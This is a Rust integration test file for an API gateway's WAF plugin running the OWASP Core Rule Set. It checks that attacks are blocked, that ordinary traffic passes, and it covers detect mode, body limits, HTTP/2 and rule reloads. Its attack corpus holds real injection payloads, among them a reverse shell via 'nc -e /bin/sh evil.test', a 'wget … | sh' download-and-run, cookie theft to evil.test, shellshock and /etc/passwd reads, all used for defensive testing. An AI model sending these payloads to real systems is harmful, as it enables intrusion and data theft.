//! The `waf` plugin through the real binary, with Debian's OWASP Core Rule Set (3.3.4) at
//! paranoia level 1: classic attacks answered 403 and never reaching the backend, ordinary API
//! requests passed untouched with nothing logged, `detect` mode, the body limit, HTTP/2, and a
//! reload that swaps rules under load.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::net::SocketAddr;
use std::time::Duration;

use common::{eventually, TestGateway, TestUpstream};
use reqwest::Method;

const CRS: &str =
    "[\"/etc/modsecurity/crs/crs-setup.conf\", \"/usr/share/modsecurity-crs/rules/*.conf\"]";

/// A gateway with one route `app` behind the CRS in `mode` (more `waf` fields in `extra`).
async fn gateway(up: &TestUpstream, mode: &str, extra: &str) -> TestGateway {
    let addr = up.addr;
    TestGateway::start(|p| {
        common::simple_config(
            p,
            &format!("  up:\n    backends: [\"{addr}\"]\n"),
            &format!(
                "  - id: app\n    upstream: up\n    plugins:\n      - waf:\n          rules: {CRS}\n          mode: {mode}\n{extra}"
            ),
        )
    })
    .await
}

/// A client that sends `Host: api.test` (a numeric Host is itself a CRS finding).
fn client(gw: &TestGateway) -> reqwest::Client {
    let port: u16 = gw
        .url("/")
        .rsplit(':')
        .next()
        .unwrap()
        .trim_end_matches('/')
        .parse()
        .unwrap();
    reqwest::Client::builder()
        .resolve("api.test", SocketAddr::from(([127, 0, 0, 1], port)))
        .timeout(Duration::from_secs(10))
        .build()
        .unwrap()
}

fn base_url(gw: &TestGateway) -> String {
    let port = gw
        .url("/")
        .rsplit(':')
        .next()
        .unwrap()
        .trim_end_matches('/')
        .to_string();
    format!("http://api.test:{port}")
}

/// One request of a test corpus.
struct Case {
    what: &'static str,
    method: &'static str,
    path: String,
    headers: Vec<(&'static str, String)>,
    body: Option<(&'static str, String)>,
}

fn get(what: &'static str, path: &str) -> Case {
    Case {
        what,
        method: "GET",
        path: path.to_string(),
        headers: Vec::new(),
        body: None,
    }
}

fn with_header(mut c: Case, name: &'static str, value: &str) -> Case {
    c.headers.push((name, value.to_string()));
    c
}

fn post(what: &'static str, path: &str, content_type: &'static str, body: &str) -> Case {
    Case {
        what,
        method: "POST",
        path: path.to_string(),
        headers: Vec::new(),
        body: Some((content_type, body.to_string())),
    }
}

const FORM: &str = "application/x-www-form-urlencoded";
const JSON: &str = "application/json";

/// What the CRS answers to an attack: 403, or 400 for a body that does not parse (the base
/// configuration's rule 200002).
fn expected(case: &Case) -> u16 {
    if case.what == "json that does not parse" {
        400
    } else {
        403
    }
}

fn attacks() -> Vec<Case> {
    vec![
        // SQL injection (942xxx): query, form, JSON, cookie
        get("sqli tautology", "/items?id=1'%20OR%20'1'='1"),
        get("sqli union", "/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"),
        get("sqli stacked", "/items?q=1;%20DROP%20TABLE%20users--"),
        get("sqli sleep", "/items?id=1%20AND%20SLEEP(5)"),
        get("sqli comment", "/login?user=admin'--"),
        get("sqli information_schema", "/items?id=1%20union%20all%20select%201,2,group_concat(table_name)%20from%20information_schema.tables"),
        get("sqli benchmark", "/items?q=benchmark(10000000,md5(1))"),
        post("sqli form", "/login", FORM, "username=admin'%20OR%201=1--&password=x"),
        post("sqli json", "/api/items", JSON, r#"{"id": "1' OR '1'='1"}"#),
        with_header(get("sqli cookie", "/items"), "cookie", "session=1' UNION SELECT NULL,NULL--"),
        // cross-site scripting (941xxx)
        get("xss script", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
        get("xss img onerror", "/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E"),
        get("xss javascript uri", "/search?q=javascript:alert(document.cookie)"),
        get("xss iframe", "/search?x=%3Ciframe%20src=javascript:alert(1)%3E"),
        post("xss form", "/comments", FORM, "comment=%3Csvg%20onload%3Dalert(1)%3E"),
        post("xss json", "/api/comments", JSON, r#"{"comment":"<script>document.location='http://evil.test/'+document.cookie</script>"}"#),
        with_header(get("xss cookie", "/"), "cookie", "pref=<script>alert(1)</script>"),
        with_header(get("xss referer", "/"), "referer", "<script>alert(1)</script>"),
        // path traversal and local files (930xxx)
        get("traversal", "/files?name=../../../../etc/passwd"),
        get("traversal encoded", "/files?name=..%252f..%252f..%252fetc%252fpasswd"),
        get("os file", "/files?page=/etc/shadow"),
        post("traversal form", "/files", FORM, "path=../../../../etc/passwd"),
        // remote command execution (932xxx)
        get("rce semicolon", "/ping?host=127.0.0.1;cat%20/etc/passwd"),
        get("rce subshell", "/ping?host=$(whoami)"),
        get("rce pipe", "/ping?host=x%7Cnc%20-e%20/bin/sh%20evil.test%204444"),
        post("rce json", "/api/run", JSON, r#"{"cmd":"; wget http://evil.test/x.sh -O- | sh"}"#),
        get("rce powershell", "/run?c=powershell.exe%20-enc%20SQBFAFgA"),
        with_header(get("shellshock", "/"), "user-agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"),
        // PHP, remote file inclusion, Java, Node.js (933, 931, 944, 934)
        get("php code", "/page?x=%3C?php%20system('id');%20?%3E"),
        get("php wrapper", "/page?file=php://filter/convert.base64-encode/resource=index.php"),
        get("rfi ip url", "/page?include=http://203.0.113.5/shell.txt?"),
        post("java runtime", "/api/eval", FORM, "expr=java.lang.Runtime.getRuntime().exec('id')"),
        post("node child_process", "/api/eval", JSON, r#"{"code":"require('child_process').exec('id')"}"#),
        // scanners (913xxx)
        with_header(get("scanner sqlmap", "/"), "user-agent", "sqlmap/1.5.2#stable (http://sqlmap.org)"),
        with_header(get("scanner nikto", "/"), "user-agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"),
        with_header(get("scanner nmap", "/"), "user-agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
        with_header(get("scanner gobuster", "/"), "user-agent", "gobuster/3.1.0"),
        // protocol attacks and violations (920, 921, 911)
        get("response splitting", "/redirect?to=foo%0d%0aSet-Cookie:%20admin=1"),
        get("smuggling in args", "/x?a=GET%20/admin%20HTTP/1.1"),
        post("content type not allowed", "/upload", "text/x-evil", "data"),
        Case {
            what: "method not allowed",
            method: "FOO",
            path: "/".into(),
            headers: Vec::new(),
            body: None,
        },
        post("json that does not parse", "/api/items", JSON, r#"{"id": 1,,,"#),
    ]
}

fn ordinary() -> Vec<Case> {
    let cookies = (0..30)
        .map(|i| format!("c{i}=value{i}"))
        .collect::<Vec<_>>()
        .join("; ");
    let records: Vec<String> = (0..40)
        .map(|i| format!(r#"{{"id":{i},"name":"customer {i}","email":"user{i}@example.com","tags":["a","b"],"active":true,"balance":{i}.5}}"#))
        .collect();
    let big_json = format!("[{}]", records.join(","));
    assert!(big_json.len() >= 4096, "{}", big_json.len());
    let ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0 with/a long-tail-of-product-tokens/1.2.3 more/4.5.6 and/7.8.9";
    let jwt = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";
    vec![
        get("user", "/api/users/42"),
        get("search", "/api/search?q=hello%20world&page=2"),
        get("sorted list", "/api/items?sort=-created_at&limit=50"),
        get("date range", "/api/v2/orders?from=2026-01-01&to=2026-12-31"),
        get("id list", "/api/users?ids=1,2,3,4"),
        get("health", "/api/health"),
        get("static asset", "/static/app.js?v=1.2.3"),
        get("utf-8 path", "/api/files/%C3%BCber/stra%C3%9Fe"),
        with_header(get("30 cookies", "/api/me"), "cookie", &cookies),
        with_header(get("long user agent", "/api/me"), "user-agent", ua),
        with_header(
            get("bearer token", "/api/me"),
            "authorization",
            &format!("Bearer {jwt}"),
        ),
        with_header(
            with_header(
                get("trace headers", "/api/me"),
                "x-request-id",
                "0123456789abcdef",
            ),
            "traceparent",
            "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
        ),
        with_header(
            get("languages", "/api/me"),
            "accept-language",
            "de-CH, de;q=0.9, en;q=0.8",
        ),
        with_header(
            get("conditional", "/api/items/7"),
            "if-none-match",
            "\"33a64df551425fcc55e4d42a148795d9f25f89d4\"",
        ),
        post(
            "json user",
            "/api/users",
            JSON,
            r#"{"name":"Alice","email":"alice@example.com","age":30}"#,
        ),
        post(
            "json nested",
            "/api/orders",
            JSON,
            r#"{"order":{"items":[{"sku":"A-1","qty":2},{"sku":"B-7","qty":1}],"note":"leave at the door"}}"#,
        ),
        post("json 4 KiB", "/api/customers/import", JSON, &big_json),
        post(
            "json unicode",
            "/api/messages",
            JSON,
            r#"{"greeting":"こんにちは","emoji":"🙂","city":"Zürich"}"#,
        ),
        post("json array", "/api/batch", JSON, "[1,2,3]"),
        post(
            "form",
            "/api/profile",
            FORM,
            "name=Bob&city=Paris&newsletter=on",
        ),
        get(
            "json in a query",
            "/api/search?filter=%7B%22status%22%3A%22open%22%2C%22owner%22%3A%22me%22%7D",
        ),
    ]
}

async fn send(c: &reqwest::Client, base: &str, case: &Case) -> reqwest::Response {
    let mut r = c.request(
        Method::from_bytes(case.method.as_bytes()).unwrap(),
        format!("{base}{}", case.path),
    );
    for (n, v) in &case.headers {
        r = r.header(*n, v.as_str());
    }
    if let Some((ct, body)) = &case.body {
        r = r.header("content-type", *ct).body(body.clone());
    }
    r.send().await.unwrap()
}

fn waf_rule_ids(entry: &serde_json::Value) -> Vec<u64> {
    entry["details"]["waf"]["rules"]
        .as_array()
        .map(|a| a.iter().filter_map(|r| r["id"].as_u64()).collect())
        .unwrap_or_default()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_crs_blocks_attacks_and_passes_ordinary_api_traffic() {
    let up = TestUpstream::start("up").await;
    let gw = gateway(&up, "block", "").await;
    let (c, base) = (client(&gw), base_url(&gw));

    let attacks = attacks();
    assert!(attacks.len() >= 40);
    let mut missed = Vec::new();
    for case in &attacks {
        let r = send(&c, &base, case).await;
        if r.status() != expected(case) {
            missed.push(format!("{}: {}", case.what, r.status()));
            continue;
        }
        let body: serde_json::Value = r.json().await.unwrap();
        assert_eq!(body["error"], "request blocked", "{}", case.what);
    }
    assert!(missed.is_empty(), "not blocked: {missed:#?}");
    assert_eq!(up.hits(), 0, "an attack reached the backend");

    let ordinary = ordinary();
    assert!(ordinary.len() >= 20);
    let mut refused = Vec::new();
    for case in &ordinary {
        let r = send(&c, &base, case).await;
        if r.status() != 200 {
            refused.push(format!("{}: {}", case.what, r.status()));
        }
    }
    assert!(refused.is_empty(), "refused: {refused:#?}");
    // passed untouched: the bodies arrived byte for byte
    let seen = up.seen();
    assert_eq!(seen.len(), ordinary.len());
    for (case, s) in ordinary.iter().zip(&seen) {
        if let Some((_, body)) = &case.body {
            assert_eq!(s.body, body.as_bytes(), "{}", case.what);
        }
    }

    let entries = gw.log_entries(attacks.len() + ordinary.len()).await;
    let (blocked, passed) = entries.split_at(attacks.len());
    for (case, e) in attacks.iter().zip(blocked) {
        assert_eq!(e["plugins"]["waf"], "blocked", "{}: {e}", case.what);
        let ids = waf_rule_ids(e);
        assert!(!ids.is_empty(), "{}: no rule ids logged: {e}", case.what);
        // CRS blocks on the anomaly score (949110); the base config's 200002 on a body
        // that does not parse
        assert!(
            ids.contains(&949110) || ids.contains(&200002) || ids.contains(&911100),
            "{}: {ids:?}",
            case.what
        );
    }
    for (case, e) in ordinary.iter().zip(passed) {
        assert_eq!(e["plugins"]["waf"], "passed", "{}: {e}", case.what);
        assert!(e.get("details").is_none(), "{}: logged {e}", case.what);
    }
    let m = gw.metrics().await;
    assert!(
        m.contains(&format!(
            "gatehouse_waf_decisions_total{{result=\"blocked\",route=\"app\"}} {}",
            attacks.len()
        )),
        "{m}"
    );
    assert!(
        m.contains(&format!(
            "gatehouse_waf_decisions_total{{result=\"passed\",route=\"app\"}} {}",
            ordinary.len()
        )),
        "{m}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn detect_mode_passes_the_attacks_and_logs_their_rules() {
    let up = TestUpstream::start("up").await;
    let gw = gateway(&up, "detect", "").await;
    let (c, base) = (client(&gw), base_url(&gw));
    let attacks = attacks();
    for case in &attacks {
        let r = send(&c, &base, case).await;
        assert_eq!(r.status(), 200, "{}", case.what);
    }
    assert_eq!(up.hits(), attacks.len());
    let entries = gw.log_entries(attacks.len()).await;
    for (case, e) in attacks.iter().zip(&entries) {
        assert_eq!(e["plugins"]["waf"], "detected", "{}: {e}", case.what);
        assert!(!waf_rule_ids(e).is_empty(), "{}: {e}", case.what);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_body_is_inspected_up_to_the_limit_and_sent_on_intact() {
    let up = TestUpstream::start("up").await;
    let gw = gateway(&up, "block", "          request_body: { max_size: 1KiB }\n").await;
    let (c, base) = (client(&gw), base_url(&gw));
    let post = |body: Vec<u8>, chunked: bool| {
        let (c, url) = (c.clone(), format!("{base}/api/upload"));
        async move {
            let r = c.post(url).header("content-type", FORM);
            let r = if chunked {
                let stream = futures_util::stream::iter(
                    body.chunks(300)
                        .map(|b| {
                            Ok::<_, std::io::Error>(hyper::body::Frame::data(
                                bytes::Bytes::copy_from_slice(b),
                            ))
                        })
                        .collect::<Vec<_>>(),
                );
                r.body(reqwest::Body::wrap(http_body_util::StreamBody::new(stream)))
            } else {
                r.body(body)
            };
            r.send().await.map_or(0, |r| r.status().as_u16())
        }
    };
    // a form field of letters, 1 KiB in all
    let mut at_limit = b"data=".to_vec();
    at_limit.extend((0..1019u32).map(|i| b'a' + (i % 26) as u8));
    for chunked in [false, true] {
        assert_eq!(
            post(at_limit.clone(), chunked).await,
            200,
            "chunked: {chunked}"
        );
        assert_eq!(
            up.last().body,
            at_limit,
            "sent on intact (chunked: {chunked})"
        );
        let mut over = at_limit.clone();
        over.push(b'!');
        let before = up.hits();
        assert_eq!(post(over, chunked).await, 413, "chunked: {chunked}");
        assert_eq!(up.hits(), before);
    }
    // an attack inside the inspected body is seen there
    let r = c
        .post(format!("{base}/api/upload"))
        .header("content-type", FORM)
        .body("q=1'%20OR%20'1'='1")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);

    // `skip`: a longer body goes on uninspected (and intact), which the access log says
    let gw = gateway(
        &up,
        "block",
        "          request_body: { max_size: 1KiB, on_larger: skip }\n",
    )
    .await;
    let (c2, base2) = (client(&gw), base_url(&gw));
    let mut long = b"data=".to_vec();
    long.extend((0..3000u32).map(|i| b'a' + (i % 26) as u8));
    let r = c2
        .post(format!("{base2}/api/upload"))
        .header("content-type", FORM)
        .body(long.clone())
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(up.last().body, long);
    let entries = gw.log_entries(1).await;
    assert_eq!(
        entries[0]["details"]["waf"]["body_inspected"], false,
        "{}",
        entries[0]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_waf_works_over_http2() {
    let ca = common::pki::Ca::new();
    ca.leaf("a", &["api.test"], false);
    let up = TestUpstream::start("up").await;
    let addr = up.addr;
    let https = std::sync::Mutex::new(0u16);
    let _gw = TestGateway::start(|p| {
        let port = common::free_port();
        *https.lock().unwrap() = port;
        format!(
            "server:\n  listen:\n    - \"127.0.0.1:{proxy}\"\n    - addr: \"127.0.0.1:{port}\"\n      tls: {{ certificates: [{{ cert: \"{dir}/a.pem\", key: \"{dir}/a.key\" }}] }}\n  access_log: off\nadmin:\n  listen: \"127.0.0.1:{admin}\"\nupstreams:\n  up: {{ backends: [\"{addr}\"] }}\nroutes:\n  - id: app\n    upstream: up\n    plugins:\n      - waf: {{ rules: {CRS} }}\n",
            proxy = p.proxy,
            admin = p.admin,
            dir = ca.dir.path().display(),
        )
    })
    .await;
    let port = *https.lock().unwrap();
    let c = ca.client(port, &["api.test"]);
    let base = format!("https://api.test:{port}");
    for case in attacks().iter().take(12) {
        let r = send(&c, &base, case).await;
        assert_eq!(r.version(), reqwest::Version::HTTP_2);
        assert_eq!(r.status(), expected(case), "{} over h2", case.what);
    }
    assert_eq!(up.hits(), 0);
    for case in &ordinary() {
        let r = send(&c, &base, case).await;
        assert_eq!(r.version(), reqwest::Version::HTTP_2);
        assert_eq!(r.status(), 200, "{} over h2", case.what);
    }
    for (case, s) in ordinary().iter().zip(up.seen()) {
        if let Some((_, body)) = &case.body {
            assert_eq!(s.body, body.as_bytes(), "{} over h2", case.what);
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_reload_swaps_the_rules_under_load_and_a_broken_rule_file_keeps_the_old_ones() {
    let up = TestUpstream::start("up").await;
    let addr = up.addr;
    let rules_dir = tempfile::tempdir().unwrap();
    let rule_file = rules_dir.path().join("local.conf");
    let rule = |path: &str, id: u32| {
        format!("SecRuleEngine On\nSecRule REQUEST_FILENAME \"@streq {path}\" \"id:{id},phase:1,deny,status:403,msg:'no {path}'\"\n")
    };
    std::fs::write(&rule_file, rule("/a", 5001)).unwrap();
    let cfg = |p: &common::Ports| {
        common::simple_config(
            p,
            &format!("  up:\n    backends: [\"{addr}\"]\n"),
            &format!(
                "  - id: app\n    upstream: up\n    plugins:\n      - waf: {{ rules: [\"{}\"] }}\n",
                rule_file.display()
            ),
        )
    };
    let gw = TestGateway::start(cfg).await;
    assert_eq!(gw.get("/a").await.status(), 403);
    assert_eq!(gw.get("/b").await.status(), 200);
    let load = common::Load::start(&gw.client, gw.url("/ok"), 4);
    tokio::time::sleep(Duration::from_millis(300)).await;

    // the rule file changes (the YAML does not): a reload loads it
    std::fs::write(&rule_file, rule("/b", 5002)).unwrap();
    let r = gw.reload().await;
    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
    assert!(
        eventually(Duration::from_secs(5), || async {
            gw.get("/b").await.status() == 403
        })
        .await
    );
    assert_eq!(gw.get("/a").await.status(), 200);

    // a syntax error: the reload is refused with ModSecurity's file and line, the rules in
    // force stay
    std::fs::write(
        &rule_file,
        "SecRuleEngine On\nSecRule ARGS \"@rx x\" \"id:5003,phase:1,nosuchaction\"\n",
    )
    .unwrap();
    let r = gw.reload().await;
    let text = r.text().await.unwrap();
    assert!(text.contains("routes[0].plugins[0].waf.rules[0]"), "{text}");
    assert!(text.contains("local.conf"), "{text}");
    assert!(text.contains("Line: 2"), "{text}");
    assert_eq!(gw.get("/b").await.status(), 403);
    assert_eq!(gw.get("/a").await.status(), 200);

    let (ok, failed) = load.stop().await;
    assert!(ok > 0);
    assert_eq!(failed, 0, "requests failed across the reloads");
}
